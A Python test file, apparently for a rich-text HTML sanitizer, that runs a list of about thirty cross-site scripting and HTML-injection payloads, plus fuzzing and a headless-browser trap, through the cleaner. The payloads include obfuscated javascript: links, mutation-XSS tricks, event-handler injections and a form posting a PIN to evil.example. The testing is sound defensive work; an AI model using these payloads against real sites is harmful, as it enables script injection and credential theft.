"""Rich text against everything that was ever smuggled into HTML, by parsing what comes out and in a real browser."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Route

from noken.richtext import FILE_URL, TAGS, clean, from_typed, links, on_page
from tests.conformance.material import payloads

ATTRIBUTES = {"href", "rel", "src", "alt", "colspan", "rowspan", "start"}
OURS = "/files/018f0000-0000-7000-8000-000000000000"
SAFE_LINK = re.compile(r"(https?://|mailto:|/(?!/))", re.IGNORECASE)

SMUGGLED = (
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="//evil.example" target="_blank">x</a>',
    '<a href="blob:https://noken.example/1">x</a>',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    f'<img src="{OURS}" srcset="https://evil.example/x 2x" onload="alert(1)">',
    f'<img src="//evil.example{OURS}">',
    f'<img src="{OURS}/../../../keluar">',
    '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
    '<p class="button stop" id="isi" name="csrf_token">x</p>',
    "<style>*{display:none}</style><p>x</p>",
    '<link rel="stylesheet" href="//evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/"><form action="https://evil.example"><input name="pin"><button>Masuk</button></form>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.html"></object><embed src="x.html">',
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><video><source onerror=alert(1)></video>",
    "</div></main><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}${alert(1)}",
)


class Reader(HTMLParser):
    """What a parser of our own finds: tags, attributes, and whether they are balanced."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        if tag not in {"br", "hr", "img"}:
            self.open.append(tag)
        for name, value in attrs:
            text = value or ""
            if name not in ATTRIBUTES or (name == "rel" and text != "noopener noreferrer"):
                self.faults.append(f"{tag} {name}")
            if (name == "href" and not SAFE_LINK.match(text)) or (name == "src" and not FILE_URL.fullmatch(text)):
                self.faults.append(f"{tag} {name}={text}")
        if tag == "img" and {name for name, _ in attrs} != {"src", "alt"}:
            self.faults.append("img without src and alt")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> out of place")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")


def faults(text: str) -> list[str]:
    reader = Reader(text)
    return reader.faults + reader.open


@pytest.mark.parametrize("payload", SMUGGLED)
def test_smuggled(payload: str) -> None:
    cleaned = clean(payload)
    assert not faults(cleaned)
    assert not [tag for tag in re.findall(r"<[^>]*>", cleaned) if "evil" in tag]
    assert clean(cleaned) == cleaned


def test_payloads_leave_nothing_that_is_not_allowed() -> None:
    found = {payload: wrong for payload in payloads() if (wrong := faults(clean(payload)))}
    assert not found
    assert not [payload for payload in payloads() if clean(clean(payload)) != clean(payload)]


PIECES = st.sampled_from(
    [*("<", ">", "/", '"', "'", "=", "&", ";", "\n", " ", "x", "\x00", "<!--", "-->", "&lt;", "&#x6a;", "&colon;")]
    + [f"<{tag}>" for tag in (*sorted(TAGS), "div", "svg", "math", "style", "script", "form", "template", "mglyph")]
    + [f"</{tag}>" for tag in ("p", "b", "a", "table", "svg", "math", "style", "script", "ul", "div", "mtext")]
    + [
        '<a href="',
        "javascript:",
        "https://x.example",
        f'<img src="{OURS}"',
        " onerror=alert(1)",
        ' alt="a>b"',
        " style=x",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=24).map("".join))
@example("<pre></p>\n")
@example("<pre>\n\n\nx")
def test_any_soup(soup: str) -> None:
    cleaned = clean(soup)
    assert not faults(cleaned)
    assert clean(cleaned) == cleaned


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"], exclude_characters="<")))
def test_plain_text_stays_what_it_says(text: str) -> None:
    assert html.unescape(re.sub(r"<[^>]*>", "", f"{links(text)}")) == text
    assert not [tag for tag in re.findall(r"<(\w+)", links(text)) if tag != "a"]
    assert html.unescape(re.sub(r"<[^>]*>", "", from_typed(f"a{text}b"))) == f"a{text}b".replace("\xa0", " ")


TOUCH = """() => {
  for (const element of document.querySelectorAll("body *")) {
    for (const kind of ["mouseover", "mouseenter", "focus", "click", "toggle", "error", "load", "animationend"])
      element.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
  }
}"""


class Trap:
    """A page without any policy that notes every script that runs and all that is loaded unasked."""

    def __init__(self, chromium: Browser) -> None:
        self.page, self.body, self.touched = chromium.new_page(), "", False
        self.ran, self.loaded = list[str](), list[str]()
        for name in ("alert", "confirm", "prompt", "print"):
            self.page.expose_binding(name, lambda source, *said: self.ran.append(str(said)))
        self.page.route("**/*", self._answer)

    def _answer(self, route: Route) -> None:
        if route.request.url == "http://noken.test/":
            text = f"<!doctype html><title>x</title><body>{self.body}</body>"
            route.fulfill(body=text, content_type="text/html; charset=utf-8")
        else:
            if not self.touched:
                self.loaded.append(route.request.url)
            route.fulfill(status=204)

    def show(self, body: str) -> None:
        """Load it, then touch everything on the page."""
        self.page.goto("about:blank")  # what was touched before may still be on its way
        self.body, self.touched = body, False
        self.page.goto("http://noken.test/")
        self.touched = True
        self.page.evaluate(TOUCH)
        self.page.wait_for_timeout(20)


@pytest.mark.browser
def test_no_payload_runs_in_chromium(chromium: Browser) -> None:
    """The cleaning alone must hold, without a content security policy. Ten payloads a page."""
    trap, everything = Trap(chromium), [*payloads(), *SMUGGLED]
    for start in range(0, len(everything), 10):
        some = everything[start : start + 10]
        trap.show("".join(f"<div>{on_page(text)}</div><p>{links(text)}</p>" for text in some))
        assert not trap.ran, some
        assert trap.page.locator("script, style, svg, math, iframe, form, img, [style], [id]").count() == 0
        assert not trap.loaded, some
    trap.page.close()


@pytest.mark.browser
def test_the_trap_catches(chromium: Browser) -> None:
    """The same payloads as they came do run: the test above can fail."""
    trap, ran = Trap(chromium), 0
    for payload in payloads()[:30]:
        trap.show(payload)
        ran += bool(trap.ran)
        trap.ran.clear()
    assert ran >= 5
    trap.page.close()
